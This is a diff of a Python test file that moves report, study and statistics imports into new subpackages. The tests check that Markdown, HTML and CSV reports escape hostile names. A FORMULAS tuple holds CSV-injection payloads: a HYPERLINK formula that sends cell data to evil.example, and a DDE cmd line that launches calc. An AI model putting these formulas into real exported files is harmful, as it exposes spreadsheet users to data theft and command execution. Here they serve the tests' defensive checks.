@@ -9,9 +9,9 @@ from html.parser import HTMLParser
 
 import pytest
 
-from issoku.evaluation.html_report import code_span, escape_cell, escape_markdown, is_local, render_report_html
-from issoku.evaluation.report import write_report
-from issoku.evaluation.store import MatchStore
+from issoku.evaluation.reports.html_report import code_span, escape_cell, escape_markdown, is_local, render_report_html
+from issoku.evaluation.reports.report import write_report
+from issoku.evaluation.games.store import MatchStore
 from tests.evaluation.factories import make_record
 
 EVIL = "evil.example"
@@ -126,10 +126,10 @@ def test_levers_md_writes_loadout_names_from_a_study_as_text(tmp_path):
     """``levers.md`` headed each loadout's table with the study's loadout name as it was: a link, or a heading."""
     from markdown_it import MarkdownIt
 
-    from issoku.evaluation.config import StudyConfig
-    from issoku.evaluation.levers import Lever, write_levers
-    from issoku.evaluation.stats import PairedDifference
-    from issoku.evaluation.variants import Shift
+    from issoku.evaluation.games.config import StudyConfig
+    from issoku.evaluation.design.levers import Lever, write_levers
+    from issoku.evaluation.stats.paired import PairedDifference
+    from issoku.evaluation.design.variants import Shift
     from issoku.rules.variant import RULES_DIR, Change, NumericField
 
     crafted = NAMES[0], NAMES[1]
@@ -157,11 +157,11 @@ def _rendered(markdown: str) -> _Page:
 def test_autobalance_md_writes_names_from_targets_studies_and_variants_as_text(tmp_path):
     """``autobalance.md`` wrote loadout names (from the study and targets files), the patch's items (from the
     variant) and the variant folder's name as they were: an image, a link, a forged heading, a shifted column."""
-    from issoku.evaluation.autobalance import Figures, Outcome, Targets, Trial, write_outcome
-    from issoku.evaluation.config import StudyConfig
-    from issoku.evaluation.metrics import balanced_first_mover
+    from issoku.evaluation.design.autobalance import Figures, Outcome, Targets, Trial, write_outcome
+    from issoku.evaluation.games.config import StudyConfig
+    from issoku.evaluation.stats.metrics import balanced_first_mover
     from issoku.rules.variant import Change
-    from issoku.training.outcomes import wilson
+    from issoku.common.outcomes import wilson
 
     names = [name for name in NAMES if "\n" not in name]
     figures = Figures({name: wilson(70, 100) for name in names}, balanced_first_mover([]), 100)
@@ -178,8 +178,8 @@ def test_autobalance_md_writes_names_from_targets_studies_and_variants_as_text(t
 def test_styles_table_writes_style_and_checkpoint_names_as_text():
     """``issoku styles`` printed a style's name (from a checkpoint's metadata), the checkpoint's file name and the
     style's action prefixes into its Markdown table as they were."""
-    from issoku.evaluation.ladder import Rung
-    from issoku.evaluation.styles import StyleProfile, format_profiles
+    from issoku.evaluation.strength.ladder import Rung
+    from issoku.evaluation.strength.styles import StyleProfile, format_profiles
 
     rung = Rung("a", "e", 0.0, 10.0, 0.0, 20.0, 0.5, 10)
     profiles = [StyleProfile(f"runs/x/checkpoints/{NAMES[2]}.zip", NAMES[0], (), rung, {"a|b": 0.5, "`k`": 0.5}, 10),
@@ -193,7 +193,7 @@ FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0
 
 def test_a_csv_cell_never_starts_a_formula_and_numbers_stay_numbers():
     """OWASP's CSV-injection rule: a text cell starting with = + - @, tab or carriage return gets a leading '."""
-    from issoku.evaluation.csv_output import spreadsheet_cell
+    from issoku.evaluation.reports.csv_output import spreadsheet_cell
 
     assert [spreadsheet_cell(text) for text in FORMULAS] == ["'" + text for text in FORMULAS]
     assert [spreadsheet_cell(value) for value in ("-0.2500", "+1", -3, 0.5, "kenshi", "")] == \
@@ -204,8 +204,8 @@ def test_levers_csv_writes_a_formula_from_a_variant_as_text(tmp_path):
     """``levers.csv`` wrote an item name from a received variant as the cell's start: a spreadsheet ran it."""
     import csv
 
-    from issoku.evaluation.config import StudyConfig
-    from issoku.evaluation.levers import Lever, write_levers
+    from issoku.evaluation.games.config import StudyConfig
+    from issoku.evaluation.design.levers import Lever, write_levers
     from issoku.rules.variant import RULES_DIR, Change, NumericField
 
     armour = "tempo/data/armour.toml"
@@ -221,7 +221,7 @@ def test_levers_csv_writes_a_formula_from_a_variant_as_text(tmp_path):
 def test_hunt_md_writes_edited_action_and_edit_names_as_text():
     """``hunt.md`` wrote the edited data's action names and the variant's edit lines in hand-made code spans, which a
     backtick in a name closed: the rest of the name was Markdown again."""
-    from issoku.evaluation.hunt_edits import EditedPlay, finding_lines
+    from issoku.evaluation.strength.hunt_edits import EditedPlay, finding_lines
 
     plays = [EditedPlay(NAMES[4] + NAMES[0], [NAMES[1]], 0.5, 0.1, 0.2, 0.6, played=True),
              EditedPlay("`x` " + NAMES[0], [], 0.0, 0.0, 0.0, 0.0, played=True)]
